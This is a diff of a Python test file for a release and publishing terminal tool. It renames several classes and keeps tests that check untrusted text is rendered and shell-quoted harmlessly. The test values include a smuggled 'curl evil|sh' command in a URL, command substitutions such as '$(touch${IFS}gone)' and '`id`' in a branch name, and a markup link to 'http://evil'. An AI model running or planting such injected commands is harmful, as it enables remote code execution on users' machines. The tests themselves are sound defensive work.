@@ -22,7 +22,7 @@ from nexy_tui.checklist import CHECKLIST
 from nexy_tui.cli import common
 from nexy_tui.cli.ending import problem_of
 from nexy_tui.core import strict_json
-from nexy_tui.core.event import Exposure, Line, PointOfNoReturn, Progress, Waiting
+from nexy_tui.core.event import Exposure, OutputLine, PointOfNoReturn, Progress, Waiting
 from nexy_tui.core.finding import Evidence, Finding, Status, failed
 from nexy_tui.core.matrix import Cell, Matrix
 from nexy_tui.core.problem import Problem
@@ -31,9 +31,9 @@ from nexy_tui.core.text import last_lines, printable, printable_lines
 from nexy_tui.engine.notice import ActionEnded, ActionEvent, ActionStarted, Found, Notice
 from nexy_tui.plain import PlainRenderer
 from nexy_tui.runlog.show import verify_command
-from nexy_tui.services.github_api import Answer
+from nexy_tui.services.github_api import ApiResponse
 from nexy_tui.services.ratelimit import wait_asked
-from nexy_tui.services.remotes import Stray
+from nexy_tui.services.remotes import StrayManifest
 from nexy_tui.services.update_server import parse_appcast
 from screens.text import clean, one_line
 
@@ -68,7 +68,14 @@ def notices(text: str) -> list[Notice]:
     """Every notice, with this text wherever text from outside can stand."""
     verdict = failed(text, text or "x" if (text or "x").strip() else "x", Evidence(text, text, text, text))
     found = [Found(Finding("remotes.code", status, text, text, (text,), verdict.evidence)) for status in Status]
-    events = [Line(text, ""), Line(text, text), Line(text, "publish"), Waiting(text, 1), PointOfNoReturn(text), Exposure(0, True)]
+    events = [
+        OutputLine(text, ""),
+        OutputLine(text, text),
+        OutputLine(text, "publish"),
+        Waiting(text, 1),
+        PointOfNoReturn(text),
+        Exposure(0, True),
+    ]
     told: list[Notice] = [*found, *(ActionEvent("publish", event) for event in events)]
     told += [ActionEvent("publish", Progress(text, text, 1, total)) for total in (None, 3)]
     ended = [ActionEnded("publish", ActionResult(text), None), ActionEnded("publish", None, Problem(text, text, text))]
@@ -159,7 +166,7 @@ def test_any_text_exhaustively(face: Callable[[str], None]) -> None:
 
 def test_markup_is_left_as_text() -> None:
     stream = io.StringIO()
-    PlainRenderer(CHECKLIST, stream)(ActionEvent("publish", Line("[/b][link=http://evil]l[/link]", "git")))
+    PlainRenderer(CHECKLIST, stream)(ActionEvent("publish", OutputLine("[/b][link=http://evil]l[/link]", "git")))
     assert stream.getvalue() == "   git: [/b][link=http://evil]l[/link]\n"
 
 
@@ -172,7 +179,7 @@ def test_what_is_cut_away_says_so_and_what_is_shown_can_be_recognised() -> None:
     "document", [{"errors": 5}, {"errors": True}, {"errors": "x"}, {"errors": [1, {"code": EVIL}], "message": EVIL}, [], 7, None]
 )
 def test_what_the_release_host_says_is_shown_whatever_its_form(document: object) -> None:
-    answer = Answer(422, {}, document)
+    answer = ApiResponse(422, {}, document)
     assert harmless(answer.message) and len(answer.message) <= 300
     assert answer.has_error("already_exists") is False
 
@@ -204,7 +211,7 @@ def test_a_thousand_different_versions_are_told_in_one_line() -> None:
 
 
 def test_commands_that_are_offered_run_nothing_of_what_others_named() -> None:
-    stray = Stray("https://h/o/r;curl evil|sh", "x$(touch${IFS}gone)`id`", "a" * 40, "s", False)
+    stray = StrayManifest("https://h/o/r;curl evil|sh", "x$(touch${IFS}gone)`id`", "a" * 40, "s", False)
     assert "clone --branch 'x$(touch${IFS}gone)`id`' 'https://h/o/r;curl evil|sh' stray" in stray.revert()
     assert "'HEAD:refs/heads/x$(touch${IFS}gone)`id`'" in stray.revert()
     command = verify_command(Path("/tmp/a b;id/r.intoto.jsonl"), "$(id)", cast(Any, SimpleNamespace(moment=NOW)))
